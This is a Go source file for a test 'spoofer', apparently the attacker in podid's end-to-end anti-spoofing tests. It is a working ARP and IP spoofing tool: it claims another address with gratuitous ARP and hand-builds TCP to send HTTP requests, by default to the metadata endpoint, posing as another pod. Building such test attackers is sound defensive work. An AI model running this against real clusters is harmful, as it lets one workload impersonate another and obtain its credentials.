// Command spoofer is the attacker of podid's anti-spoofing end-to-end cases
// (localhost/podid-spoofer:dev, built by hack/image.sh, next to busybox). It
// needs nothing but CAP_NET_RAW, which containerd grants every container:
//
//	spoofer sleep        wait for SIGTERM
//	spoofer get -src IP -gw IP [-dst IP:PORT] [-H 'K: V']... [-timeout D] [-if NAME] PATH
//
// get speaks TCP by hand from an AF_PACKET socket on the interface: it claims
// -src in ARP (a gratuitous request and reply every 200 ms, and an answer to
// every request for it), resolves the gateway's MAC, sends a SYN from -src to -dst
// through the gateway, reads the SYN-ACK off the wire, acknowledges it, sends
// "GET PATH" with the headers and reads the answer until the server closes.
// The pod's own kernel never sees the connection: it does not own -src (or,
// in a control run, the address was removed from the interface), so it drops
// the answers instead of resetting them.
//
// It prints one JSON object (result) and exits 0 once the attempt ran,
// whatever came back; 1 on a setup error.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: spoofer sleep | spoofer get -src IP -gw IP [-dst IP:PORT] [-H 'K: V']... PATH")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "sleep":
		ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		defer stop()
		fmt.Println("spoofer: ready")
		<-ctx.Done()
	case "get":
		r, err := get(os.Args[2:])
		if err != nil {
			fmt.Fprintln(os.Stderr, "spoofer:", err)
			os.Exit(1)
		}
		_ = json.NewEncoder(os.Stdout).Encode(r)
	default:
		fmt.Fprintf(os.Stderr, "spoofer: unknown verb %q\n", os.Args[1])
		os.Exit(2)
	}
}

// result is what the attacker got.
type result struct {
	Src        string `json:"src"`
	GatewayMAC string `json:"gateway_mac,omitempty"`
	ARPClaims  int    `json:"arp_claims"`  // gratuitous request+reply pairs sent
	ARPAnswers int    `json:"arp_answers"` // requests for src answered
	SYNs       int    `json:"syns"`
	SynAck     bool   `json:"synack"` // the server's SYN-ACK reached us
	Reset      bool   `json:"reset"`
	Status     string `json:"status,omitempty"` // the HTTP status line
	Body       string `json:"body,omitempty"`
	Error      string `json:"error,omitempty"` // why the exchange ended without an answer
}

type headers []string

func (h *headers) String() string     { return strings.Join(*h, ", ") }
func (h *headers) Set(v string) error { *h = append(*h, v); return nil }

func get(args []string) (*result, error) {
	fs := flag.NewFlagSet("get", flag.ContinueOnError)
	src := fs.String("src", "", "source address to claim and send from")
	gw := fs.String("gw", "", "the pod network's gateway")
	dst := fs.String("dst", "169.254.169.254:80", "server address")
	ifname := fs.String("if", "eth0", "interface")
	timeout := fs.Duration("timeout", 8*time.Second, "bound of the whole attempt")
	var hs headers
	fs.Var(&hs, "H", "request header 'K: V' (repeatable)")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if fs.NArg() != 1 || !strings.HasPrefix(fs.Arg(0), "/") {
		return nil, errors.New("one PATH starting with / is required")
	}
	s, err := netip.ParseAddr(*src)
	if err != nil || !s.Is4() {
		return nil, fmt.Errorf("-src %q: not an IPv4 address", *src)
	}
	g, err := netip.ParseAddr(*gw)
	if err != nil || !g.Is4() {
		return nil, fmt.Errorf("-gw %q: not an IPv4 address", *gw)
	}
	d, err := netip.ParseAddrPort(*dst)
	if err != nil || !d.Addr().Is4() {
		return nil, fmt.Errorf("-dst %q: not an IPv4 address and port", *dst)
	}
	ifi, err := net.InterfaceByName(*ifname)
	if err != nil {
		return nil, err
	}
	if len(ifi.HardwareAddr) != 6 {
		return nil, fmt.Errorf("%s has no Ethernet address", *ifname)
	}
	req := "GET " + fs.Arg(0) + " HTTP/1.1\r\nHost: " + d.Addr().String() + "\r\n"
	for _, h := range hs {
		req += h + "\r\n"
	}
	req += "Connection: close\r\n\r\n"

	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return nil, fmt.Errorf("packet socket (needs CAP_NET_RAW): %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
		return nil, fmt.Errorf("bind packet socket to %s: %w", *ifname, err)
	}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 50_000}); err != nil {
		return nil, err
	}
	c := &conn{fd: fd, ifindex: ifi.Index, mac: ifi.HardwareAddr, src: s, gw: g, dst: d, res: &result{Src: s.String()}}
	c.run(own4(ifi), []byte(req), time.Now().Add(*timeout))
	return c.res, nil
}

// own4 is the interface's first IPv4 address, if it still has one: the
// sender address of the gateway lookup, which must not be what the guard
// is asked to judge.
func own4(ifi *net.Interface) netip.Addr {
	addrs, _ := ifi.Addrs()
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return p.Addr()
		}
	}
	return netip.Addr{}
}

// conn is one hand-built TCP connection and the ARP claim that carries it.
type conn struct {
	fd      int
	ifindex int
	mac     net.HardwareAddr
	src, gw netip.Addr
	dst     netip.AddrPort
	res     *result

	gwMAC          net.HardwareAddr
	sport          uint16
	iss, sndNxt    uint32
	rcvNxt         uint32
	established    bool
	reqSent        bool
	reqAcked, done bool
	resp           bytes.Buffer
}

const (
	claimEvery = 200 * time.Millisecond
	// claimFirst is how long src is claimed before the SYN: longer than the
	// kernel's ARP locktime (1 s), within which a neighbour entry just
	// confirmed by its owner is not overridden.
	claimFirst = 1200 * time.Millisecond
	synEvery   = time.Second
	dataEvery  = 500 * time.Millisecond
)

func (c *conn) run(lookupFrom netip.Addr, req []byte, deadline time.Time) {
	if !lookupFrom.IsValid() {
		lookupFrom = c.src
	}
	var b [2]byte
	_, _ = rand.Read(b[:])
	c.sport = 20000 + binary.BigEndian.Uint16(b[:])%40000
	var isn [4]byte
	_, _ = rand.Read(isn[:])
	c.iss = binary.BigEndian.Uint32(isn[:])
	start := time.Now()
	var lastClaim, lastARPReq, lastSYN, lastData time.Time
	buf := make([]byte, 1<<16)
	for time.Now().Before(deadline) && !c.done {
		now := time.Now()
		if now.Sub(lastClaim) >= claimEvery {
			// Gratuitous ARP in both forms (RFC 5227): a request and a
			// reply whose target is the sender. The kernel lets these
			// override a neighbour entry even within its lock time.
			c.sendARP(1, c.src, zeroMAC, c.src)
			c.sendARP(2, c.src, c.mac, c.src)
			c.res.ARPClaims++
			lastClaim = now
		}
		if c.gwMAC == nil && now.Sub(lastARPReq) >= claimEvery {
			c.sendARP(1, lookupFrom, zeroMAC, c.gw)
			lastARPReq = now
		}
		if c.gwMAC != nil && !c.established && now.Sub(start) >= claimFirst && now.Sub(lastSYN) >= synEvery {
			c.sendTCP(c.iss, 0, flagSYN, nil)
			c.res.SYNs++
			lastSYN = now
		}
		if c.established && !c.reqAcked && now.Sub(lastData) >= dataEvery {
			c.sendTCP(c.iss+1, c.rcvNxt, flagACK|flagPSH, req)
			c.sndNxt, c.reqSent = c.iss+1+uint32(len(req)), true
			lastData = now
		}
		n, from, err := unix.Recvfrom(c.fd, buf, 0)
		if err != nil {
			continue // receive timeout: time for the periodic sends
		}
		if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
			continue
		}
		c.handle(buf[:n])
	}
	if c.gwMAC != nil {
		c.res.GatewayMAC = c.gwMAC.String()
	}
	switch {
	case c.gwMAC == nil:
		c.res.Error = "the gateway never answered ARP"
	case c.res.Reset:
		c.res.Error = "connection reset"
	case !c.res.SynAck:
		c.res.Error = "no SYN-ACK"
	case !c.done:
		c.res.Error = "the server did not close the connection in time"
	}
	if c.resp.Len() > 0 {
		status, _, _ := strings.Cut(c.resp.String(), "\r\n")
		c.res.Status = status
		// net/http reads the rest: the agent's answers may be chunked.
		if r, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(c.resp.Bytes())), nil); err == nil {
			b, err := io.ReadAll(r.Body)
			c.res.Body = string(b)
			if err != nil && c.res.Error == "" {
				c.res.Error = "incomplete body: " + err.Error()
			}
		}
	}
	if c.established && !c.done {
		c.sendTCP(c.sndNxt, c.rcvNxt, flagRST|flagACK, nil)
	}
}

var (
	broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	zeroMAC   = net.HardwareAddr{0, 0, 0, 0, 0, 0}
)

func (c *conn) handle(f []byte) {
	if len(f) < 14 {
		return
	}
	switch binary.BigEndian.Uint16(f[12:14]) {
	case unix.ETH_P_ARP:
		a := f[14:]
		if len(a) < 28 || binary.BigEndian.Uint16(a[0:2]) != 1 || binary.BigEndian.Uint16(a[2:4]) != unix.ETH_P_IP {
			return
		}
		op := binary.BigEndian.Uint16(a[6:8])
		sha, spa, tpa := net.HardwareAddr(a[8:14]), netip.AddrFrom4([4]byte(a[14:18])), netip.AddrFrom4([4]byte(a[24:28]))
		if op == 2 && spa == c.gw && c.gwMAC == nil {
			c.gwMAC = append(net.HardwareAddr(nil), sha...)
		}
		if op == 1 && tpa == c.src && !bytes.Equal(sha, c.mac) {
			c.sendARP(2, c.src, sha, spa) // "src is at our MAC", to whoever asks
			c.res.ARPAnswers++
		}
	case unix.ETH_P_IP:
		c.handleIP(f[14:])
	}
}

func (c *conn) handleIP(p []byte) {
	if len(p) < 20 || p[0]>>4 != 4 || p[9] != unix.IPPROTO_TCP {
		return
	}
	ihl := int(p[0]&0xf) * 4
	total := int(binary.BigEndian.Uint16(p[2:4]))
	if ihl < 20 || total > len(p) || total < ihl+20 {
		return
	}
	if netip.AddrFrom4([4]byte(p[12:16])) != c.dst.Addr() || netip.AddrFrom4([4]byte(p[16:20])) != c.src {
		return
	}
	t := p[ihl:total]
	if binary.BigEndian.Uint16(t[0:2]) != c.dst.Port() || binary.BigEndian.Uint16(t[2:4]) != c.sport {
		return
	}
	seq, ack := binary.BigEndian.Uint32(t[4:8]), binary.BigEndian.Uint32(t[8:12])
	off := int(t[12]>>4) * 4
	flags := t[13]
	if off < 20 || off > len(t) {
		return
	}
	data := t[off:]
	switch {
	case flags&flagRST != 0:
		c.res.Reset, c.done = true, true
	case !c.established:
		if flags&(flagSYN|flagACK) == flagSYN|flagACK && ack == c.iss+1 {
			c.res.SynAck, c.established = true, true
			c.rcvNxt, c.sndNxt = seq+1, c.iss+1
			c.sendTCP(c.iss+1, c.rcvNxt, flagACK, nil)
		}
	default:
		if flags&flagACK != 0 && c.reqSent && int32(ack-c.sndNxt) >= 0 {
			c.reqAcked = true
		}
		if seq != c.rcvNxt { // out of order or a repeat: say what is missing
			c.sendTCP(c.sndNxt, c.rcvNxt, flagACK, nil)
			return
		}
		c.resp.Write(data)
		c.rcvNxt += uint32(len(data))
		if flags&flagFIN != 0 {
			c.rcvNxt++
			c.sendTCP(c.sndNxt, c.rcvNxt, flagFIN|flagACK, nil)
			c.done = true
			return
		}
		if len(data) > 0 {
			c.sendTCP(c.sndNxt, c.rcvNxt, flagACK, nil)
		}
	}
}

const (
	flagFIN = 0x01
	flagSYN = 0x02
	flagRST = 0x04
	flagPSH = 0x08
	flagACK = 0x10
)

func (c *conn) send(dstMAC net.HardwareAddr, ethType uint16, payload []byte) {
	f := make([]byte, 0, 14+len(payload))
	f = append(f, dstMAC...)
	f = append(f, c.mac...)
	f = binary.BigEndian.AppendUint16(f, ethType)
	f = append(f, payload...)
	sa := &unix.SockaddrLinklayer{Protocol: htons(ethType), Ifindex: c.ifindex, Halen: 6}
	copy(sa.Addr[:], dstMAC)
	_ = unix.Sendto(c.fd, f, 0, sa) // a lost frame is the attacker's loss, retried on schedule
}

// sendARP sends an ARP packet saying spa is at our MAC, to tha/tpa
// (broadcast for requests and gratuitous replies).
func (c *conn) sendARP(op uint16, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) {
	a := make([]byte, 0, 28)
	a = append(a, 0, 1, 8, 0, 6, 4)
	a = binary.BigEndian.AppendUint16(a, op)
	a = append(a, c.mac...)
	s4, t4 := spa.As4(), tpa.As4()
	a = append(a, s4[:]...)
	a = append(a, tha...)
	a = append(a, t4[:]...)
	to := broadcast
	if op == 2 && !bytes.Equal(tha, c.mac) { // an answer goes to who asked; a gratuitous one to all
		to = tha
	}
	c.send(to, unix.ETH_P_ARP, a)
}

// sendTCP sends one segment from src:sport to dst through the gateway.
func (c *conn) sendTCP(seq, ack uint32, flags byte, data []byte) {
	hl := 20
	if flags&flagSYN != 0 {
		hl = 24 // MSS option
	}
	t := make([]byte, hl, hl+len(data))
	binary.BigEndian.PutUint16(t[0:2], c.sport)
	binary.BigEndian.PutUint16(t[2:4], c.dst.Port())
	binary.BigEndian.PutUint32(t[4:8], seq)
	binary.BigEndian.PutUint32(t[8:12], ack)
	t[12] = byte(hl/4) << 4
	t[13] = flags
	binary.BigEndian.PutUint16(t[14:16], 64240)
	if hl == 24 {
		copy(t[20:], []byte{2, 4, 0x05, 0xb4}) // MSS 1460
	}
	t = append(t, data...)
	s4, d4 := c.src.As4(), c.dst.Addr().As4()
	pseudo := make([]byte, 0, 12+len(t))
	pseudo = append(pseudo, s4[:]...)
	pseudo = append(pseudo, d4[:]...)
	pseudo = append(pseudo, 0, unix.IPPROTO_TCP)
	pseudo = binary.BigEndian.AppendUint16(pseudo, uint16(len(t)))
	binary.BigEndian.PutUint16(t[16:18], checksum(append(pseudo, t...)))

	ip := make([]byte, 20, 20+len(t))
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:4], uint16(20+len(t)))
	var id [2]byte
	_, _ = rand.Read(id[:])
	copy(ip[4:6], id[:])
	ip[6] = 0x40 // don't fragment
	ip[8] = 64
	ip[9] = unix.IPPROTO_TCP
	copy(ip[12:16], s4[:])
	copy(ip[16:20], d4[:])
	binary.BigEndian.PutUint16(ip[10:12], checksum(ip))
	c.send(c.gwMAC, unix.ETH_P_IP, append(ip, t...))
}

func checksum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
